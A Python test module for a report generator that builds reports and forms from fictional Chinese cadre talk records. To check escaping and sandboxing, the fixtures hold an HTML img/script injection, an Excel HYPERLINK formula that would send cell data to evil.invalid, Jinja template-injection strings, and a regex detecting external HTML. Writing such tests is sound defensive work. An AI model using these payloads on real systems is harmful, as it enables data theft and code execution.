"""Reports (`talkbook report`): every report in every format, --redact, the form, where files go.

One workspace with Chinese data is built once for the module (reports only read): 张伟 with a
post change and a held talk (follow-ups, one naming 王芳 and 张伟 in its text), 李娜 with a
hardship never talked about and a plan waiting for approval, 王强 retired. Reports are as of
2026-07-01.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import re
import shutil
import stat
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from click.testing import Result

from conftest import PROFILE_ZH, STAFF, Setup, last_line, make_key, ok, run
from talkbook.cli import cli
from talkbook.models import Document
from talkbook.reports import FORMATS, NAMES

AS_OF = "2026-07-01"
LINA = """---
name: 李娜
gender: 女
birth_date: 1985-09-17
unit: 市财政局
post: 预算科科长
personality: extroverted
---
"""
WANG_QIANG = """---
name: 王强
gender: 男
birth_date: 1962-11-30
unit: 市财政局
post: 调研员
---
"""
MARKUP = '<img src="http://evil.invalid/u.png">'  # data that must stay text in every HTML report
FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"点此")'  # what Excel would run
QIAN = f"""---
name: 钱七
unit: '{MARKUP}科'
post: 科员
---
"""
RECORD = {
    "held_at": "2026-03-10T09:30",
    "place": "市委组织部三楼谈话室",
    "present": ["王芳", "组织部干事孙某"],
    "topics": ["对岗位调整的认识"],
    "follow_ups": [
        {"what": "请王芳协调张伟爱人就医", "owner": "P-01", "due": "2026-04-10"},
        {"what": "送达调任通知", "owner": "干部二科", "due": "2026-03-12", "done": True},
        {
            "what": f"核实{MARKUP}<script>alert(1)</script>",
            "owner": "干部一科",
            "due": "2026-08-01",
        },
        {"what": FORMULA, "owner": "干部一科", "due": "2026-08-02"},
    ],
    "deferred": ["对班子分工的不同意见"],
}
BODY = """# 谈心谈话记录

## 一、谈话对象反映的情况

<!-- 尽量记录原话原意。 -->
张伟表示服从组织安排，
对新岗位有信心。

- 家庭负担较重
"""
NAMES_ZH = ["张伟", "李娜", "王强", *(name for name, _ in STAFF.values())]


@dataclass
class World:
    ws: Setup
    cadres: dict[str, str] = field(default_factory=dict)
    talks: dict[str, str] = field(default_factory=dict)

    def report(self, *args: str, pid: str = "P-01") -> Result:
        return self.ws.as_(pid, "report", *args, "--as-of", AS_OF)


def _new_cadre(ws: Setup, folder: Path, name: str, text: str) -> str:
    source = folder / f"{name}.md"
    source.write_text(text, encoding="utf-8")
    return last_line(ws.as_("P-01", "cadre", "new", "--from", source))


def _retire(ws: Setup, folder: Path, cadre: str, day: str) -> None:
    """`cadre retire` where it exists; else the field by an edit."""
    if "retire" in cli.commands["cadre"].commands:  # type: ignore[attr-defined]
        ok(ws.as_("P-01", "cadre", "retire", cadre, "--date", day))
        return
    text = ok(ws.as_("P-01", "cat", cadre)).stdout
    source = folder / "retired.md"
    source.write_text(text.replace("\n---\n", f"\nretired: '{day}'\n---\n", 1), encoding="utf-8")
    ok(ws.as_("P-01", "edit", cadre, "--from", source))


def _plan(ws: Setup, cadre: str, at: str, *extra: str) -> str:
    os.environ["TALKBOOK_NOW"] = at
    return last_line(ws.as_("P-01", "plan", cadre, "--speaker", "P-03", "--at", at, *extra))


def _build(root: Path, keydir: Path) -> World:
    ws = Setup(root)
    for pid in [*STAFF, "outsider"]:
        ws.keys[pid], ws.public[pid] = make_key(keydir, pid)
    ok(run("-i", ws.keys["P-01"], "init", root, "--org", "市委组织部"))
    for pid, (name, roles) in STAFF.items():
        role_args = [a for r in roles for a in ("--role", r)]
        ok(ws.as_("P-01", "person", "add", pid, "--name", name, *role_args,
                  "--key", ws.public[pid]))  # fmt: skip
    world, folder = World(ws), root.parent
    zhang = world.cadres["zhang"] = _new_cadre(ws, folder, "zhang", PROFILE_ZH)
    lina = world.cadres["lina"] = _new_cadre(ws, folder, "lina", LINA)
    wang = world.cadres["wang"] = _new_cadre(ws, folder, "wang", WANG_QIANG)
    world.cadres["qian"] = _new_cadre(ws, folder, "qian", QIAN)
    os.environ["TALKBOOK_NOW"] = "2026-04-02T09:00"
    ok(ws.as_("P-01", "event", zhang, "post_change", "--date", "2026-03-01", "--note", "调任"))
    ok(ws.as_("P-01", "event", lina, "hardship", "--date", "2026-04-01", "--note", "老人生病"))
    held = world.talks["held"] = _plan(ws, zhang, "2026-03-10T09:30", "--occasion", "post_change")
    ok(ws.as_("P-03", "submit", held))
    ok(ws.as_("P-02", "approve", held, "--comment", "同意"))
    os.environ["TALKBOOK_NOW"] = "2026-03-10T11:00"
    record = folder / "record.md"
    record.write_text(Document(RECORD, BODY).text(), encoding="utf-8")
    ok(ws.as_("P-03", "record", held, "--from", record))
    waiting = world.talks["waiting"] = _plan(ws, lina, "2026-06-20T10:00")
    ok(ws.as_("P-03", "submit", waiting))
    os.environ["TALKBOOK_NOW"] = "2026-07-01T09:00"
    _retire(ws, folder, wang, "2026-06-30")
    return world


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    with pytest.MonkeyPatch.context() as patch:
        home = tmp_path_factory.mktemp("reports-home")
        patch.setenv("HOME", str(home))
        patch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
        for var in ("TALKBOOK_IDENTITY", "TALKBOOK_WORKSPACE", "VISUAL", "EDITOR"):
            patch.delenv(var, raising=False)
        for var in ("AUTHOR", "COMMITTER"):
            patch.setenv(f"GIT_{var}_NAME", "tester")
            patch.setenv(f"GIT_{var}_EMAIL", "tester@example.invalid")
        patch.setenv("TALKBOOK_NOW", "2026-01-05T09:00")
        base = tmp_path_factory.mktemp("reports")
        keydir = base / "keys"
        keydir.mkdir(mode=0o700)
        return _build(base / "ws", keydir)


@pytest.fixture(autouse=True)
def _clock(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TALKBOOK_NOW", "2026-07-01T09:00")


def table(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV for Excel: UTF-8 with a byte-order mark"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def one_line_error(result: Result, code: int = 2) -> str:
    assert result.exit_code == code, result.stdout
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("talkbook: "), result.stderr
    return lines[0]


# -- every report, every format -----------------------------------------------------------------
def test_all_writes_every_report_owner_only(world: World) -> None:
    result = ok(world.report("--all"))
    folder = world.ws.root / "build" / "reports"
    expected = {f"{name}.{fmt}" for name in NAMES for fmt in FORMATS}
    assert {p.name for p in folder.iterdir()} == expected
    assert sorted(result.stdout.split()) == sorted(f"build/reports/{n}" for n in expected)
    for folder_path in (folder, folder.parent):
        assert stat.S_IMODE(folder_path.stat().st_mode) == 0o700
    for path in folder.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path.name
        data = path.read_bytes()
        if path.suffix == ".csv":
            table(data)  # parses
        elif path.suffix == ".html":
            text = data.decode("utf-8")
            assert text.startswith("<!DOCTYPE html>") and "@page" in text and "@media print" in text
            assert not EXTERNAL.search(text), path.name  # self-contained, and data stays text
        else:
            assert data.decode("utf-8").startswith("# ")


def test_a_reports_folder_opened_to_others_is_closed_again(world: World) -> None:
    folder = world.ws.root / "build" / "reports"
    folder.mkdir(parents=True, exist_ok=True)
    folder.chmod(0o755)
    ok(world.report("approvals"))
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700


def test_all_in_one_format(world: World) -> None:
    written = ok(world.report("--all", "--format", "csv")).stdout.split()
    assert written == [f"build/reports/{name}.csv" for name in NAMES]


SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'
EXTERNAL = re.compile(r"<(script|img|link|iframe|object|embed)\b|url\(|@import", re.IGNORECASE)


def test_markup_in_the_data_stays_text_in_html(world: World) -> None:
    pages = [ok(world.report(n, "--format", "html", "--out", "-")).stdout for n in NAMES]
    pages.append(
        ok(world.report("form", world.talks["held"], "--format", "html", "--out", "-")).stdout
    )
    for page in pages:
        assert not EXTERNAL.search(page)
    for name in NAMES:  # Markdown viewers render raw HTML
        assert not EXTERNAL.search(ok(world.report(name, "--out", "-")).stdout), name
    form = ok(world.report("form", world.talks["held"], "--out", "-")).stdout
    assert not EXTERNAL.search(form) and "&lt;script>alert(1)&lt;/script>" in form
    assert "&lt;img src=&#34;http://evil.invalid/u.png&#34;&gt;科" in pages[0]  # coverage
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[-1]  # the form


@pytest.mark.parametrize("name", ["coverage", "speakers", "occasions"])
def test_html_charts_are_inline_svg(world: World, name: str) -> None:
    html = ok(world.report(name, "--format", "html", "--out", "-")).stdout
    assert "<svg" in html and "<rect" in html and SVG_NS in html


def test_coverage_per_unit_and_retired_left_out(world: World) -> None:
    rows = table(ok(world.report("coverage", "--format", "csv", "--out", "-")).stdout_bytes)
    by_unit = {row["unit"]: row for row in rows}
    assert by_unit["市发展和改革委员会"]["reached"] == "1"
    assert by_unit["市财政局"] | {} == {
        "unit": "市财政局",
        "cadres": "1",
        "reached": "0",
        "share": "0.0",
        "not_reached": world.cadres["lina"],
    }
    text = ok(world.report("coverage", "--out", "-")).stdout
    assert "## 按单位" in text and "1 名已退休干部未计入" in text
    assert "李娜" in text and "王强" not in text


def test_due_reuses_the_obligations(world: World) -> None:
    rows = table(ok(world.report("due", "--format", "csv", "--out", "-")).stdout_bytes)
    reasons = {(row["cadre"], row["reason"], row["overdue"]) for row in rows}
    lina, zhang = world.cadres["lina"], world.cadres["zhang"]
    assert {(lina, "hardship", "1"), (zhang, "follow_up", "1"), (lina, "approval", "1")} <= reasons
    due_json = world.ws.as_("P-01", "due", "--as-of", AS_OF, "--format", "json")
    assert due_json.exit_code == 1 and due_json.stdout.count('"reason"') == len(rows)


def test_speakers_by_method_and_occasion(world: World) -> None:
    [row] = table(ok(world.report("speakers", "--format", "csv", "--out", "-")).stdout_bytes)
    assert (row["speaker"], row["name"], row["held"], row["occasion:post_change"]) == (
        "P-03",
        "李明",
        "1",
        "1",
    )
    assert sum(int(v) for k, v in row.items() if k.startswith("method:")) == 1
    before = table(
        ok(world.report("speakers", "--format", "csv", "--out", "-", "--until", "2026-03-01"))
        .stdout_bytes
    )  # fmt: skip
    assert before[0]["held"] == "0"


def test_occasions_per_month(world: World) -> None:
    rows = table(ok(world.report("occasions", "--format", "csv", "--out", "-")).stdout_bytes)
    assert [(r["month"], r["occasion"], r["events"], r["held"]) for r in rows] == [
        ("2026-03", "post_change", "1", "1"),
        ("2026-04", "hardship", "1", "0"),
    ]


def test_approvals_with_age(world: World) -> None:
    [row] = table(ok(world.report("approvals", "--format", "csv", "--out", "-")).stdout_bytes)
    assert (row["talk"], row["submitted"], row["age_days"], row["overdue"]) == (
        world.talks["waiting"],
        "2026-06-20",
        "11",
        "1",
    )


def test_followups_open_only(world: World) -> None:
    rows = table(ok(world.report("followups", "--format", "csv", "--out", "-")).stdout_bytes)
    held = world.talks["held"]
    assert [(r["talk"], r["n"], r["overdue"]) for r in rows] == [
        (held, "1", "1"),
        (held, "3", "0"),
        (held, "4", "0"),
    ]
    assert rows[2]["what"] == "'" + FORMULA  # text to Excel, not a formula
    assert "送达调任通知" not in ok(world.report("followups", "--out", "-")).stdout


# -- the form -------------------------------------------------------------------------------------
def test_form_of_a_held_talk(world: World) -> None:
    talk = world.talks["held"]
    md = ok(world.report("form", talk, "--out", "-")).stdout
    assert md.startswith("# 市委组织部 谈话记录表") and talk in md
    for text in (
        "张伟",
        "市发展和改革委员会",
        "副主任",
        "李明",
        "市委组织部三楼谈话室",
        "岗位变动",
    ):
        assert text in md
    assert "张伟表示服从组织安排， 对新岗位有信心。" in md and "- 家庭负担较重" in md
    assert "尽量记录原话原意" not in md  # the template's guidance, in an HTML comment
    assert "谈话对象（签名）" in md
    html = ok(world.report("form", talk, "--format", "html", "--out", "-")).stdout
    assert "size: A4" in html and "谈话人（签名）" in html and "<script" not in html


def test_form_of_a_plan_leaves_the_body_blank(world: World) -> None:
    html = ok(world.report("form", world.talks["waiting"], "--format", "html", "--out", "-")).stdout
    assert "李娜" in html and html.count('class="blank-line"') == 10


def test_form_refusals(world: World) -> None:
    assert "form" in one_line_error(world.report("form"))
    assert "md, html" in one_line_error(
        world.report("form", world.talks["held"], "--format", "csv")
    )
    # an approver reads plans, never records: the form says so, and no file is written
    line = one_line_error(world.report("form", world.talks["held"], pid="P-02"))
    assert world.talks["held"] in line and "张伟" not in line
    assert "T-zzzzzz" in one_line_error(world.report("form", "T-zzzzzz"))


# -- redaction ------------------------------------------------------------------------------------
def test_redact_leaves_no_name_anywhere(world: World, tmp_path: Path) -> None:
    ok(world.report("--all", "--redact"))
    outputs = {p.name: p.read_bytes() for p in (world.ws.root / "build" / "reports").iterdir()}
    for fmt in ("md", "html"):
        outputs[f"form.{fmt}"] = ok(
            world.report("form", world.talks["held"], "--redact", "--format", fmt, "--out", "-")
        ).stdout_bytes
    for name, data in outputs.items():
        text = data.decode("utf-8-sig")
        for person in NAMES_ZH:
            assert person not in text, (name, person)
    form = outputs["form.md"].decode()
    assert world.cadres["zhang"] in form and "P-03" in form and "孙某" not in form
    assert f"请P-01协调{world.cadres['zhang']}爱人就医" in outputs["followups.csv"].decode(
        "utf-8-sig"
    )


# -- where reports go -----------------------------------------------------------------------------
def test_out_file_is_owner_only(world: World, tmp_path: Path) -> None:
    out = tmp_path / "copies" / "cov.html"
    ok(world.report("coverage", "--out", out))  # the format follows the suffix
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_out_inside_the_workspace_only_under_build(world: World) -> None:
    line = one_line_error(world.report("coverage", "--out", world.ws.root / "cadres" / "x.md"))
    assert "build/" in line
    assert not (world.ws.root / "cadres" / "x.md").exists()


def test_symlinked_build_folder_is_refused(world: World, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    build = world.ws.root / "build"
    moved = build.with_name("build.moved")
    if build.exists():
        build.rename(moved)
    build.symlink_to(elsewhere)
    try:
        one_line_error(world.report("coverage"))
    finally:
        build.unlink()
        if moved.exists():
            moved.rename(build)
    assert list(elsewhere.iterdir()) == []


@contextlib.contextmanager
def replaced(path: Path, text: str | None) -> Iterator[None]:
    """The file holds `text` (None: is gone) for the block, then what it held before."""
    before = path.read_bytes() if path.exists() else None
    if text is None:
        path.unlink()
    else:
        path.write_text(text, encoding="utf-8")
    try:
        yield
    finally:
        if before is None:
            path.unlink(missing_ok=True)
        else:
            path.write_bytes(before)


# -- bad names, templates, locales ----------------------------------------------------------------
def test_unknown_report_is_one_line_exit_2(world: World) -> None:
    line = one_line_error(world.report("张伟"))
    assert "coverage" in line and "张伟" not in line
    one_line_error(world.report())  # neither a name nor --all
    one_line_error(world.report("coverage", "--all"))
    one_line_error(world.report("speakers", "--since", "2026-05-01", "--until", "2026-04-01"))
    one_line_error(world.report("speakers", "--since", "五月"))


HOSTILE = [
    "{{ report.__class__.__mro__ }}",
    "{{ bar_chart.__globals__ }}",
    "{{ ''.__class__.__subclasses__() }}",
    "{% set x = report.table.rows.append(1) %}",
]


def test_hostile_report_templates_fail_in_one_line(world: World) -> None:
    path = world.ws.root / "templates" / "zh-CN" / "reports" / "coverage.md.j2"
    for hostile in HOSTILE:
        with replaced(path, f"# 覆盖\n\n{hostile}\n"):
            line = one_line_error(world.report("coverage", "--out", "-"))
        assert "zh-CN/reports/coverage.md.j2" in line and "unsafe" in line, hostile


def test_a_broken_template_writes_no_report(world: World, tmp_path: Path) -> None:
    path = world.ws.root / "templates" / "zh-CN" / "reports" / "speakers.html.j2"
    folder = world.ws.root / "build" / "reports"
    moved = folder.with_name("reports.before")
    if folder.exists():
        folder.rename(moved)
    try:
        with replaced(path, "{% if %}\n"):
            one_line_error(world.report("--all"))
        assert not folder.exists() or list(folder.iterdir()) == []
    finally:
        shutil.rmtree(folder, ignore_errors=True)
        if moved.exists():
            moved.rename(folder)


def test_workspace_templates_win_and_package_ones_serve_older_workspaces(world: World) -> None:
    path = world.ws.root / "templates" / "zh-CN" / "reports" / "coverage.md.j2"
    with replaced(path, "# 本单位的覆盖表\n\n{{ report.total.cadres }} 人\n"):
        text = ok(world.report("coverage", "--out", "-")).stdout
    assert text == "# 本单位的覆盖表\n\n3 人\n"
    with replaced(path, None):  # a workspace from before report templates
        text = ok(world.report("coverage", "--out", "-")).stdout
    assert "谈心谈话覆盖情况" in text and "李娜" in text


def test_english_and_chinese_headings(world: World) -> None:
    zh = {name: ok(world.report(name, "--out", "-")).stdout for name in NAMES}
    assert zh["coverage"].startswith("# 市委组织部 谈心谈话覆盖情况")
    assert "## 按单位" in zh["coverage"] and "谈话人谈话情况" in zh["speakers"]
    config = world.ws.root / "talkbook.toml"
    english = config.read_text(encoding="utf-8").replace('locale = "zh-CN"', 'locale = "en"')
    with replaced(config, english):
        en = {name: ok(world.report(name, "--out", "-")).stdout for name in NAMES}
        html = ok(world.report("occasions", "--format", "html", "--out", "-")).stdout
        form = ok(world.report("form", world.talks["held"], "--out", "-")).stdout
    assert en["coverage"].startswith("# Talk coverage — 市委组织部")
    assert "## Per unit" in en["coverage"] and "| Unit | Cadres |" in en["coverage"]
    assert en["due"].startswith("# Talks due and overdue")
    assert en["approvals"].startswith("# Plans waiting for approval")
    assert en["speakers"].startswith("# Talks per speaker")
    assert en["followups"].startswith("# Follow-ups open and overdue")
    assert '<html lang="en">' in html and "Occasions per month" in html
    assert form.startswith("# Talk record form") and "Cadre (signature)" in form


# -- make targets ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "target, command", [("report", "report --all"), ("due", "due"), ("validate", "validate")]
)
def test_make_targets_take_the_workspace(target: str, command: str) -> None:
    import subprocess

    if shutil.which("make") is None:
        pytest.skip("make not installed")
    repo = Path(__file__).resolve().parents[1]
    dry = subprocess.run(
        ["make", "-n", "-o", ".venv/.installed", "-C", str(repo), target,
         "WORKSPACE=/srv/谈话", "IDENTITY=/keys/P-01.txt"],
        capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip
    expected = f".venv/bin/talkbook --workspace /srv/谈话 --identity /keys/P-01.txt {command}"
    assert expected in dry.splitlines()


def test_redact_by_a_reader_of_no_profile_leaves_no_cadre_name(world: World) -> None:
    """The speaker reads the records (follow-ups naming 张伟) but no profile: the redactor
    cannot learn 张伟 from a profile, and the name must not go out in a --redact copy."""
    outputs = [
        ok(world.report(n, "--redact", "--format", f, "--out", "-", pid="P-03")).stdout
        for n in NAMES
        for f in FORMATS
    ]
    for fmt in ("md", "html"):
        args = ("form", world.talks["held"], "--redact", "--format", fmt, "--out", "-")
        outputs.append(ok(world.report(*args, pid="P-03")).stdout)
    for text in outputs:
        assert "张伟" not in text


def test_a_csv_report_loads_no_template_engine() -> None:
    """CSV is written by the csv module alone: Jinja, a tenth of a second to import, is loaded
    for Markdown and HTML only."""
    script = (
        "import sys\n"
        "from talkbook.reports.render import to_csv\n"
        "to_csv({'columns': ['a'], 'rows': [{'a': 1}]})\n"
        "print('jinja2' in sys.modules)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert done.stdout.strip() == "False", done.stderr


@pytest.mark.parametrize("fmt", ["html", "md", "csv"])
def test_due_asks_git_for_the_profiles_days_once(
    world: World, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In Markdown and HTML, git's log is read in a thread while Jinja is imported: once, and
    the report is the one a CSV's rows say."""
    from talkbook import views

    asked: list[object] = []
    real = views.created_dates
    monkeypatch.setattr(views, "created_dates", lambda app: asked.append(app) or real(app))
    text = ok(world.report("due", "--format", fmt, "--out", "-")).stdout
    assert len(asked) == 1
    assert world.cadres["lina"] in text


@pytest.mark.parametrize("fmt", ["html", "csv"])
def test_due_when_git_fails_is_one_line(
    world: World, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """git's refusal, met in the thread that reads its log, is raised where the command
    handles it: one line, exit 2, as without the thread."""
    from talkbook import views
    from talkbook.errors import TalkbookError

    def failing(app: object) -> None:
        raise TalkbookError("git log failed here")

    monkeypatch.setattr(views, "created_dates", failing)
    line = one_line_error(world.report("due", "--format", fmt, "--out", "-"))
    assert "git log failed here" in line
